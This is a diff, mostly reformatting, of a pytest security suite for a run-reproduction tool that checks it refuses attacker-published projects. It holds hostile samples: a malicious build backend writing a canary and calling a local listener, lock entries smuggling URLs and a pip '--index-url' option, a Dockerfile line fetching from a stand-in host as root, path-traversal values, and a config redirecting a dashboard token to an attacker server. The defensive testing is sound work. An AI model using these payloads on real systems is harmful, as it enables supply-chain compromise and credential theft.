@@ -25,7 +25,6 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
-
 from conftest import git, run_cli
 from test_reproduce_support import add_bare_remote, edited_project, http_double, publish, record_in
 
@@ -33,7 +32,7 @@ RECORDS_REF = "refs/heads/cotk-repro-records"
 
 #: the entry of every attacker project: writes the canary when it runs on a machine without
 #: author.txt (the reproducer's), and reports the uid it ran as
-ENTRY = '''import json, os
+ENTRY = """import json, os
 CANARY = {canary!r}
 if not os.path.exists("author.txt"):
     try:
@@ -41,10 +40,10 @@ if not os.path.exists("author.txt"):
     except OSError:
         pass
 json.dump({{"tokens": 6.0, "uid": float(os.getuid())}}, open("result.json", "w"))
-'''
+"""
 
 #: a build backend that attacks whatever machine runs it, then builds the package with setuptools
-EVIL_BACKEND = '''import os, socket, time
+EVIL_BACKEND = """import os, socket, time
 CANARY = {canary!r}
 try:
     open(CANARY, "w").write("the build backend ran here")
@@ -59,8 +58,8 @@ from setuptools import build_meta as _setuptools
 build_wheel = _setuptools.build_wheel
 get_requires_for_build_wheel = _setuptools.get_requires_for_build_wheel
 prepare_metadata_for_build_wheel = _setuptools.prepare_metadata_for_build_wheel
-'''
-EVIL_PYPROJECT = '''[build-system]
+"""
+EVIL_PYPROJECT = """[build-system]
 requires = ["setuptools>=61"]
 build-backend = "evilbackend"
 backend-path = ["."]
@@ -71,10 +70,11 @@ version = "1.0"
 
 [tool.setuptools]
 packages = ["evilpkg"]
-'''
+"""
 
 
 # -- the attacker's tools -------------------------------------------------------------------------
+
 
 @contextmanager
 def listener():
@@ -90,7 +90,7 @@ def listener():
         while not stop.is_set():
             try:
                 conn, _addr = srv.accept()
-            except socket.timeout:
+            except TimeoutError:
                 continue
             except OSError:
                 break
@@ -115,8 +115,9 @@ def listener():
 
 def attacker_project(base: Path, name: str, canary: Path, edit=None, files=None, links=None) -> dict:
     """What an attacker publishes: a repository, a genuine record of it, the record edited by ``edit``."""
-    return edited_project(base, name, {"main.py": ENTRY.format(canary=str(canary)), **(files or {})}, edit, links,
-                          user="mallory")
+    return edited_project(
+        base, name, {"main.py": ENTRY.format(canary=str(canary)), **(files or {})}, edit, links, user="mallory"
+    )
 
 
 def reproduce(project: dict, *args: str, env: dict | None = None, timeout: float = 600, allow_unsigned: bool = True):
@@ -126,9 +127,24 @@ def reproduce(project: dict, *args: str, env: dict | None = None, timeout: float
     about what happens after the signature check (tested in section 0 and in tests/test_signing.py).
     """
     full_env = {**os.environ, **(env or {})}
-    proc = subprocess.run([sys.executable, "-m", "cotk_repro", "reproduce", str(project["bare"]), "--record",
-                           project["record"]["id"], *args, *(["--allow-unsigned"] if allow_unsigned else [])],
-                          stdin=subprocess.DEVNULL, capture_output=True, text=True, env=full_env, timeout=timeout)
+    proc = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "cotk_repro",
+            "reproduce",
+            str(project["bare"]),
+            "--record",
+            project["record"]["id"],
+            *args,
+            *(["--allow-unsigned"] if allow_unsigned else []),
+        ],
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        env=full_env,
+        timeout=timeout,
+    )
     return proc
 
 
@@ -142,6 +158,7 @@ def could_not_run(proc, *words: str) -> None:
 
 
 # -- fixtures -------------------------------------------------------------------------------------
+
 
 @pytest.fixture
 def canary(tmp_path) -> Path:
@@ -160,7 +177,7 @@ def docker_image():
         client = docker.from_env(timeout=120)
         client.ping()
         client.images.get(image)
-    except Exception as exc:  # noqa: BLE001 - no engine or no image: the reason is the skip message
+    except Exception as exc:
         pytest.skip(f"no Docker engine or base image ({type(exc).__name__}: {str(exc)[:100]})")
     yield {"image": image, "client": client}
     client.close()
@@ -177,17 +194,18 @@ def forget_images(info: dict, proc) -> None:
     for tag in set(re.findall(r"building the Docker image (cotk-repro-reproduce:[0-9a-f]+)", proc.stderr)):
         try:
             info["client"].images.remove(tag, force=True)
-        except Exception:  # noqa: BLE001 - shared with another test's identical image
+        except Exception:
             pass
 
 
 # -- 0. an unsigned record is refused before anything of it runs -----------------------------------
 
+
 def _strip_signature(project: dict, tmp_path: Path) -> dict:
     """The attacker edits the signed record, recomputes its id and puts it on the records ref without a
     signature (the old one no longer covers it), removing the original's signature too."""
-    from cotk_repro.remote.gitrecords import add_to_ref
     from cotk_repro.records import finalize
+    from cotk_repro.remote.gitrecords import add_to_ref
 
     bare, hexid = project["bare"], project["record"]["id"].removeprefix("sha256:")
     clone = tmp_path / "stripper"
@@ -197,8 +215,12 @@ def _strip_signature(project: dict, tmp_path: Path) -> dict:
     record = finalize(record)
     new_hex = record["id"].removeprefix("sha256:")
     add_to_ref(clone, RECORDS_REF, {f"records/{new_hex}/record.json": json.dumps(record).encode()}, message="unsigned")
-    git(clone, "update-ref", RECORDS_REF, git(clone, "commit-tree", "-p", RECORDS_REF, "-m", "no signatures",
-                                              _tree_without_signatures(clone)))
+    git(
+        clone,
+        "update-ref",
+        RECORDS_REF,
+        git(clone, "commit-tree", "-p", RECORDS_REF, "-m", "no signatures", _tree_without_signatures(clone)),
+    )
     git(clone, "push", "-q", "--force", str(bare), f"{RECORDS_REF}:{RECORDS_REF}")
     return {**project, "record": record}
 
@@ -211,8 +233,9 @@ def _tree_without_signatures(repo: Path) -> str:
     sigs = [p for p in git(repo, "ls-tree", "-r", "--name-only", RECORDS_REF).split() if p.endswith("record.sig")]
     if sigs:
         subprocess.run(["git", "rm", "-q", "--cached", *sigs], cwd=repo, env=env, check=True)
-    return subprocess.run(["git", "write-tree"], cwd=repo, env=env, check=True, capture_output=True,
-                          text=True).stdout.strip()
+    return subprocess.run(
+        ["git", "write-tree"], cwd=repo, env=env, check=True, capture_output=True, text=True
+    ).stdout.strip()
 
 
 def test_unsigned_record_is_could_not_run_before_anything_runs(tmp_path, canary, monkeypatch):
@@ -245,14 +268,17 @@ def test_unsigned_record_is_could_not_run_before_anything_runs(tmp_path, canary,
 
 # -- 1. build backends never run on the host -----------------------------------------------------
 
+
 def _with_evilpkg(record):
     record["environment"]["packages"].append({"name": "evilpkg", "version": "1.0", "install": "editable"})
 
 
 def _evil_files(canary: Path, port: int, sleep: float = 0) -> dict:
-    return {"evilpkg/pyproject.toml": EVIL_PYPROJECT,
-            "evilpkg/evilbackend.py": EVIL_BACKEND.format(canary=str(canary), port=port, sleep=sleep),
-            "evilpkg/evilpkg/__init__.py": "VALUE = 1\n"}
+    return {
+        "evilpkg/pyproject.toml": EVIL_PYPROJECT,
+        "evilpkg/evilbackend.py": EVIL_BACKEND.format(canary=str(canary), port=port, sleep=sleep),
+        "evilpkg/evilpkg/__init__.py": "VALUE = 1\n",
+    }
 
 
 @pytest.mark.docker
@@ -282,11 +308,14 @@ def _sdist(folder: Path, canary: Path, port: int) -> Path:
     import tarfile
 
     src = folder / "sdistonly_pkg-1.0"
-    files = {"pyproject.toml": EVIL_PYPROJECT.replace('"evilpkg"', '"sdistonly_pkg"').replace(
-                 'name = "sdistonly_pkg"', 'name = "sdistonly-pkg"'),
-             "evilbackend.py": EVIL_BACKEND.format(canary=str(canary), port=port, sleep=0),
-             "sdistonly_pkg/__init__.py": "VALUE = 2\n",
-             "PKG-INFO": "Metadata-Version: 2.1\nName: sdistonly-pkg\nVersion: 1.0\n"}
+    files = {
+        "pyproject.toml": EVIL_PYPROJECT.replace('"evilpkg"', '"sdistonly_pkg"').replace(
+            'name = "sdistonly_pkg"', 'name = "sdistonly-pkg"'
+        ),
+        "evilbackend.py": EVIL_BACKEND.format(canary=str(canary), port=port, sleep=0),
+        "sdistonly_pkg/__init__.py": "VALUE = 2\n",
+        "PKG-INFO": "Metadata-Version: 2.1\nName: sdistonly-pkg\nVersion: 1.0\n",
+    }
     for rel, text in files.items():
         (src / rel).parent.mkdir(parents=True, exist_ok=True)
         (src / rel).write_text(text)
@@ -309,9 +338,14 @@ def test_sdist_only_package_is_downloaded_but_built_in_the_sandbox(tmp_path, can
 
         def edit(record):
             record["environment"]["packages"].append({"name": "sdistonly-pkg", "version": "1.0"})
+
         project = attacker_project(tmp_path, "sdist", canary, edit)
-        proc = reproduce(project, *docker_args(docker_image), "--json",
-                         env={"PIP_FIND_LINKS": str(links), "COTK_REPRO_CACHE": str(tmp_path / "cache")})
+        proc = reproduce(
+            project,
+            *docker_args(docker_image),
+            "--json",
+            env={"PIP_FIND_LINKS": str(links), "COTK_REPRO_CACHE": str(tmp_path / "cache")},
+        )
         forget_images(docker_image, proc)
         assert not canary.exists() and hits == []
     assert proc.returncode in (0, 1), proc.stdout + proc.stderr
@@ -332,8 +366,11 @@ def test_a_build_that_never_ends_is_stopped_at_the_time_limit(tmp_path, canary, 
         assert not canary.exists() and hits == []
     could_not_run(proc, "ran past the time limit of 20 s")
     assert elapsed < 200, elapsed
-    builds = [c for c in leftover_containers(docker_image["client"])
-              if (c.labels or {}).get("cotk-repro.reproduce") == "build"]
+    builds = [
+        c
+        for c in leftover_containers(docker_image["client"])
+        if (c.labels or {}).get("cotk-repro.reproduce") == "build"
+    ]
     assert builds == []
 
 
@@ -353,7 +390,7 @@ def test_image_build_past_the_time_limit_is_stopped_and_leaves_nothing(tmp_path,
         for tag in image.tags:
             try:
                 client.images.remove(tag, force=True)
-            except Exception:  # noqa: BLE001 - removed meanwhile
+            except Exception:
                 pass
     tmpdir = tmp_path / "t"
     tmpdir.mkdir()
@@ -374,14 +411,21 @@ def test_image_build_past_the_time_limit_is_stopped_and_leaves_nothing(tmp_path,
 
 def test_venv_runtime_refuses_a_record_that_needs_a_build_without_trust(tmp_path, canary):
     """With consent to run the entry but not --trust-remote-code, a package build is still refused."""
-    from cotk_repro.reproduce.core import ReproduceOptions, reproduce as do_reproduce
+    from cotk_repro.reproduce.core import ReproduceOptions
+    from cotk_repro.reproduce.core import reproduce as do_reproduce
 
     with listener() as (port, hits):
         project = attacker_project(tmp_path, "backend-venv", canary, _with_evilpkg, _evil_files(canary, port))
         asked = []
-        outcome = do_reproduce(str(project["bare"]), ReproduceOptions(
-            record=project["record"]["id"], runtime="venv", allow_unsigned=True,
-            confirm=lambda c: asked.append(c) or True))
+        outcome = do_reproduce(
+            str(project["bare"]),
+            ReproduceOptions(
+                record=project["record"]["id"],
+                runtime="venv",
+                allow_unsigned=True,
+                confirm=lambda c: asked.append(c) or True,
+            ),
+        )
         assert not canary.exists() and hits == []
     assert len(asked) == 1 and outcome.exit_code == 2
     assert "evilpkg==1.0" in outcome.error.message and "--runtime docker" in outcome.error.hint
@@ -389,15 +433,20 @@ def test_venv_runtime_refuses_a_record_that_needs_a_build_without_trust(tmp_path
 
 # -- 2. the lock is validated, never handed to pip as is ---------------------------------------------
 
-@pytest.mark.parametrize("entry, words", [
-    ({"name": "evil2 @ http://127.0.0.1:{port}/evil2-1.0.tar.gz#", "version": "1.0"}, ["evil2 @ http"]),
-    ({"name": "evil2", "version": "1.0 @ http://127.0.0.1:{port}/x.tar.gz"}, ["evil2", "not an exact version"]),
-    ({"name": "--index-url=http://127.0.0.1:{port}/", "version": "1.0"}, ["--index-url"]),
-    ({"name": "Evil_Pkg", "version": "1.0"}, ["Evil_Pkg", "canonical"]),
-    ({"name": "evil2", "version": ">=1.0"}, ["evil2", "exact version"]),
-    ({"name": "evil2", "version": "1.0; python_version>'3'"}, ["evil2"]),
-    ({"name": "evil2", "version": "1.0", "install": "-e ../../x"}, ["evil2", "install kind"]),
-], ids=["url-name", "url-version", "option", "not-canonical", "range", "marker", "install-kind"])
+
+@pytest.mark.parametrize(
+    "entry, words",
+    [
+        ({"name": "evil2 @ http://127.0.0.1:{port}/evil2-1.0.tar.gz#", "version": "1.0"}, ["evil2 @ http"]),
+        ({"name": "evil2", "version": "1.0 @ http://127.0.0.1:{port}/x.tar.gz"}, ["evil2", "not an exact version"]),
+        ({"name": "--index-url=http://127.0.0.1:{port}/", "version": "1.0"}, ["--index-url"]),
+        ({"name": "Evil_Pkg", "version": "1.0"}, ["Evil_Pkg", "canonical"]),
+        ({"name": "evil2", "version": ">=1.0"}, ["evil2", "exact version"]),
+        ({"name": "evil2", "version": "1.0; python_version>'3'"}, ["evil2"]),
+        ({"name": "evil2", "version": "1.0", "install": "-e ../../x"}, ["evil2", "install kind"]),
+    ],
+    ids=["url-name", "url-version", "option", "not-canonical", "range", "marker", "install-kind"],
+)
 def test_lock_entries_that_are_not_name_and_exact_version_are_refused(entry, words):
     from cotk_repro.reproduce import ReproduceError
     from cotk_repro.reproduce.lock import validate_lock
@@ -416,9 +465,12 @@ def test_url_requirement_is_could_not_run_and_fetches_nothing(tmp_path, canary, 
     if runtime == "docker":
         args = docker_args(request.getfixturevalue("docker_image"))
     with listener() as (port, hits):
+
         def edit(record):
             record["environment"]["packages"].append(
-                {"name": f"evil2 @ http://127.0.0.1:{port}/evil2-1.0.tar.gz#", "version": "1.0"})
+                {"name": f"evil2 @ http://127.0.0.1:{port}/evil2-1.0.tar.gz#", "version": "1.0"}
+            )
+
         project = attacker_project(tmp_path, f"url-{runtime}", canary, edit)
         proc = reproduce(project, *args, env={"PIP_NO_INDEX": "1"})
         assert hits == [] and not canary.exists()
@@ -427,15 +479,17 @@ def test_url_requirement_is_could_not_run_and_fetches_nothing(tmp_path, canary, 
 
 # -- 3. the recorded Dockerfile is never built ----------------------------------------------------
 
+
 @pytest.mark.docker
 @pytest.mark.slow
 def test_recorded_dockerfile_is_not_built(tmp_path, canary, docker_image):
     import hashlib
 
     with listener() as (port, hits):
+
         def edit(record):
-            record["environment"]["dockerfile"] += (f"USER root\nADD http://127.0.0.1:{port}/x /x\n"
-                                                    "RUN sleep 300\n")
+            record["environment"]["dockerfile"] += f"USER root\nADD http://127.0.0.1:{port}/x /x\nRUN sleep 300\n"
+
         project = attacker_project(tmp_path, "dockerfile", canary, edit)
         t0 = time.monotonic()
         proc = reproduce(project, *docker_args(docker_image), "--json")
@@ -454,6 +508,7 @@ def test_recorded_dockerfile_is_not_built(tmp_path, canary, docker_image):
 
 # -- 4. host runtimes ask first ---------------------------------------------------------------------
 
+
 @pytest.mark.parametrize("runtime", ["local", "venv"])
 def test_host_runtime_without_consent_runs_and_builds_nothing(tmp_path, canary, runtime):
     project = attacker_project(tmp_path, f"consent-{runtime}", canary)
@@ -463,8 +518,13 @@ def test_host_runtime_without_consent_runs_and_builds_nothing(tmp_path, canary, 
     assert not canary.exists()
     assert not (cache / "venvs").exists() and not (cache / "wheelhouse").exists()
     # with the flag, the same record runs (and the canary shows that this test's canary works)
-    proc = reproduce(project, "--runtime", runtime, "--trust-remote-code", env={"COTK_REPRO_CACHE": str(cache)}
-                     if runtime == "local" else None)
+    proc = reproduce(
+        project,
+        "--runtime",
+        runtime,
+        "--trust-remote-code",
+        env={"COTK_REPRO_CACHE": str(cache)} if runtime == "local" else None,
+    )
     assert proc.returncode in (0, 1), proc.stdout + proc.stderr
     assert canary.read_text() == "the entry ran here"
 
@@ -476,20 +536,30 @@ def test_a_cloned_checkout_that_ships_records_runs_nothing_on_the_host_without_c
     project = attacker_project(tmp_path, "shipped-records", canary)
     clone = tmp_path / "clone"
     subprocess.run(["git", "clone", "-q", str(project["bare"]), str(clone)], check=True)
-    for ref in subprocess.run(["git", "-C", str(clone), "for-each-ref", "--format=%(refname)"], check=True,
-                              capture_output=True, text=True).stdout.split():
+    for ref in subprocess.run(
+        ["git", "-C", str(clone), "for-each-ref", "--format=%(refname)"], check=True, capture_output=True, text=True
+    ).stdout.split():
         if ref.endswith("cotk-repro-records"):
             subprocess.run(["git", "-C", str(clone), "update-ref", "-d", ref], check=True)
     shutil.copytree(project["root"] / ".cotk-repro" / "runs", clone / ".cotk-repro" / "runs")
     for runtime in ("local", "venv"):
-        proc = subprocess.run([sys.executable, "-m", "cotk_repro", "reproduce", str(clone), "--runtime", runtime],
-                              stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=600)
+        proc = subprocess.run(
+            [sys.executable, "-m", "cotk_repro", "reproduce", str(clone), "--runtime", runtime],
+            stdin=subprocess.DEVNULL,
+            capture_output=True,
+            text=True,
+            timeout=600,
+        )
         could_not_run(proc, "--trust-remote-code", "nothing was run")
         assert not canary.exists()
     # with consent the shipped record is the candidate and runs (the canary works)
-    proc = subprocess.run([sys.executable, "-m", "cotk_repro", "reproduce", str(clone), "--runtime", "local",
-                           "--trust-remote-code"], stdin=subprocess.DEVNULL, capture_output=True, text=True,
-                          timeout=600)
+    proc = subprocess.run(
+        [sys.executable, "-m", "cotk_repro", "reproduce", str(clone), "--runtime", "local", "--trust-remote-code"],
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        timeout=600,
+    )
     assert "unpublished local record" in proc.stderr, proc.stdout + proc.stderr
     assert canary.read_text() == "the entry ran here"
 
@@ -502,9 +572,25 @@ def test_interactive_prompt_names_repository_commit_and_user(tmp_path, canary):
 
     project = attacker_project(tmp_path, "prompt", canary)
     master, slave = pty.openpty()
-    proc = subprocess.Popen([sys.executable, "-m", "cotk_repro", "reproduce", str(project["bare"]), "--record",
-                             project["record"]["id"], "--runtime", "local", "--allow-unsigned"], stdin=slave, stdout=slave, stderr=slave,
-                            env={**os.environ, "COLUMNS": "400"}, close_fds=True)
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "cotk_repro",
+            "reproduce",
+            str(project["bare"]),
+            "--record",
+            project["record"]["id"],
+            "--runtime",
+            "local",
+            "--allow-unsigned",
+        ],
+        stdin=slave,
+        stdout=slave,
+        stderr=slave,
+        env={**os.environ, "COLUMNS": "400"},
+        close_fds=True,
+    )
     os.close(slave)
     seen = b""
     deadline = time.monotonic() + 120
@@ -532,9 +618,17 @@ def test_interactive_prompt_names_repository_commit_and_user(tmp_path, canary):
 
 # -- 5. paths stay inside the checkout --------------------------------------------------------------
 
-@pytest.mark.parametrize("field, value", [("entry", "../../../../x/host.py"), ("entry", "{host}"),
-                                          ("cwd", "../../.."), ("result_file", "../../../../x/result.json")],
-                         ids=["entry-traversal", "entry-absolute", "cwd", "result-file"])
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("entry", "../../../../x/host.py"),
+        ("entry", "{host}"),
+        ("cwd", "../../.."),
+        ("result_file", "../../../../x/result.json"),
+    ],
+    ids=["entry-traversal", "entry-absolute", "cwd", "result-file"],
+)
 @pytest.mark.parametrize("runtime", ["local", "docker"])
 def test_paths_out_of_the_checkout_are_refused(tmp_path, canary, field, value, runtime, request):
     args = ["--runtime", "local", "--trust-remote-code"]
@@ -546,6 +640,7 @@ def test_paths_out_of_the_checkout_are_refused(tmp_path, canary, field, value, r
 
     def edit(record):
         record["command"][field] = value.format(host=host)
+
     project = attacker_project(tmp_path, f"path-{runtime}-{field}", canary, edit)
     tmpdir = tmp_path / "t"
     tmpdir.mkdir()
@@ -571,25 +666,27 @@ def test_symlink_out_of_the_checkout_is_could_not_run(tmp_path, canary, runtime,
 
 # -- 6. the token goes only where the user pointed -------------------------------------------------
 
+
 def test_submit_never_uses_the_projects_dashboard_url(tmp_path, canary):
     def answer(method, path, headers, body):
         return 201, {"id": 1, "url": "http://dash/r/1"}
 
     with http_double(answer) as (attacker, stolen), http_double(answer) as (mine, received):
-        project = attacker_project(tmp_path, "token", canary,
-                                   files={"cotk-repro.toml": f'[dashboard]\nurl = "{attacker}"\n'})
+        project = attacker_project(
+            tmp_path, "token", canary, files={"cotk-repro.toml": f'[dashboard]\nurl = "{attacker}"\n'}
+        )
         env = {"COTK_REPRO_DASHBOARD_TOKEN": "user-secret-token", "XDG_CONFIG_HOME": str(tmp_path / "cfg")}
         proc = reproduce(project, "--runtime", "local", "--trust-remote-code", "--submit", env=env)
         assert proc.returncode in (0, 1), proc.stderr
         assert "no dashboard to submit to" in proc.stderr and attacker in proc.stderr  # shown, not used
-        proc = reproduce(project, "--runtime", "local", "--trust-remote-code", "--submit", "--dashboard", mine,
-                         env=env)
+        proc = reproduce(project, "--runtime", "local", "--trust-remote-code", "--submit", "--dashboard", mine, env=env)
         assert proc.returncode in (0, 1), proc.stderr
     assert stolen == []
     assert len(received) == 1 and received[0]["headers"].get("Authorization") == "Bearer user-secret-token"
 
 
 # -- 7. Docker API failures are verdicts ------------------------------------------------------------
+
 
 @pytest.mark.docker
 @pytest.mark.slow
@@ -602,9 +699,14 @@ def test_docker_api_failure_is_could_not_run_naming_the_step(tmp_path, canary, d
 
 # -- 8. what is published ------------------------------------------------------------------------------
 
+
 def _published_files(bare: Path) -> list[str]:
-    return subprocess.run(["git", "--git-dir", str(bare), "ls-tree", "-r", "--name-only",
-                           "refs/heads/cotk-repro-records"], capture_output=True, text=True, check=True).stdout.split()
+    return subprocess.run(
+        ["git", "--git-dir", str(bare), "ls-tree", "-r", "--name-only", "refs/heads/cotk-repro-records"],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.split()
 
 
 SMALL_ENTRY = "import json\njson.dump({'x': 1.0}, open('result.json', 'w'))\n"
@@ -612,8 +714,12 @@ SMALL_ENTRY = "import json\njson.dump({'x': 1.0}, open('result.json', 'w'))\n"
 
 @pytest.mark.parametrize("opt_in", [False, True])
 def test_run_logs_are_published_only_when_asked(tmp_path, make_project, opt_in):
-    root = make_project({"main.py": "print('SECRET-printed-by-the-entry')\n" + SMALL_ENTRY,
-                         **({"cotk-repro.toml": "[publish]\nlogs = true\n"} if opt_in else {})})
+    root = make_project(
+        {
+            "main.py": "print('SECRET-printed-by-the-entry')\n" + SMALL_ENTRY,
+            **({"cotk-repro.toml": "[publish]\nlogs = true\n"} if opt_in else {}),
+        }
+    )
     bare = add_bare_remote(root, tmp_path / "remotes", "me/proj")
     record = record_in(root)
     assert publish(root, record["id"], "--push").returncode == 0
@@ -622,15 +728,18 @@ def test_run_logs_are_published_only_when_asked(tmp_path, make_project, opt_in):
     assert ("stdout.log" in names) is opt_in and ("stderr.log" in names) is opt_in
 
 
-@pytest.mark.parametrize("url, published", [
-    ("https://user:pass@[::1]/x.git", "https://[::1]/x.git"),
-    ("https://user:tok@[2001:db8::1]:8443/a/x.git", "https://[2001:db8::1]:8443/a/x.git"),
-    ("https://ghp_token@github.com/a/x.git", "https://github.com/a/x.git"),
-    ("ssh://git@example.com:2222/a/x.git", "ssh://git@example.com:2222/a/x.git"),
-    ("git@example.com:a/x.git", "git@example.com:a/x.git"),
-    ("file://{home}/remotes/x.git", "local:x.git"),
-    ("{home}/remotes/x.git", "local:x.git"),
-])
+@pytest.mark.parametrize(
+    "url, published",
+    [
+        ("https://user:pass@[::1]/x.git", "https://[::1]/x.git"),
+        ("https://user:tok@[2001:db8::1]:8443/a/x.git", "https://[2001:db8::1]:8443/a/x.git"),
+        ("https://ghp_token@github.com/a/x.git", "https://github.com/a/x.git"),
+        ("ssh://git@example.com:2222/a/x.git", "ssh://git@example.com:2222/a/x.git"),
+        ("git@example.com:a/x.git", "git@example.com:a/x.git"),
+        ("file://{home}/remotes/x.git", "local:x.git"),
+        ("{home}/remotes/x.git", "local:x.git"),
+    ],
+)
 def test_remote_urls_are_recorded_without_credentials_or_local_paths(make_project, url, published):
     root = make_project({"main.py": SMALL_ENTRY})
     git(root, "remote", "add", "origin", url.format(home=str(Path.home())))
